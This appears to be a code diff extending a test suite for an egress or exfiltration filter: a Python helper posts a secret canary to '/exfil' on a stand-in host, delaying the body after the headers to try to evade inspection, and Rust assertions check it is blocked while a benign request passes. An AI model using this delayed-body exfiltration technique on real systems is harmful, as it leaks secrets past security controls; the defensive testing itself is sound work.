@@ -84,6 +84,27 @@ def capture(payload):
     except Exception as e:
         return "error " + type(e).__name__
 
+# The capture path, head first and the body a moment later: the upstream
+# must not see the head either.
+def capture_late(path, body):
+    try:
+        s = socket.create_connection(("api.test", 8080), timeout=10)
+        s.sendall(b"POST " + path.encode() + b" HTTP/1.1\r\nHost: api.test:8080\r\nContent-Length: " + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n")
+        import time; time.sleep(0.3)
+        s.sendall(body)
+        data = b""
+        while True:
+            d = s.recv(65536)
+            if not d:
+                break
+            data += d
+        return data.split(b"\r\n")[0].decode() or "closed"
+    except Exception as e:
+        return "error " + type(e).__name__
+
+out("capture_late", capture_late("/exfil", ("k=" + secret).encode()))
+out("capture_late_benign", capture_late("/echo-capture-late", b"benign=capture"))
+
 body = ("k=" + secret).encode()
 out("capture_raw", capture(b"POST /exfil HTTP/1.1\r\nHost: api.test:8080\r\nContent-Length: " + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n" + body))
 out("capture_control", capture(b"GET /hello HTTP/1.1\r\nHost: api.test:8080\r\nConnection: close\r\n\r\n"))
@@ -148,6 +169,17 @@ fn canaries_leaving_in_any_encoding_are_detected_and_blocked() {
         ] {
             assert_eq!(value_of(&run, k), "403", "[{mode}] {k}\n{}", run.describe());
         }
+        let late = value_of(&run, "capture_late");
+        assert!(
+            !late.contains("200"),
+            "[{mode}] capture_late got through: {late}\n{}",
+            run.describe()
+        );
+        assert!(
+            value_of(&run, "capture_late_benign").contains("200"),
+            "{}",
+            run.describe()
+        );
         let cap = value_of(&run, "capture_raw");
         assert!(
             !cap.contains("200"),
@@ -210,6 +242,7 @@ fn canaries_leaving_in_any_encoding_are_detected_and_blocked() {
         ("/echo-small", "len=8 body=b'benign=1'"),
         ("/echo-chunked", "len=4 body=b'abcd'"),
         ("/echo-late", "len=11 body=b'benign=late'"),
+        ("/echo-capture-late", "len=14 body=b'benign=capture'"),
     ] {
         assert!(
             log.lines().any(|l| l.contains(path) && l.contains(body)),
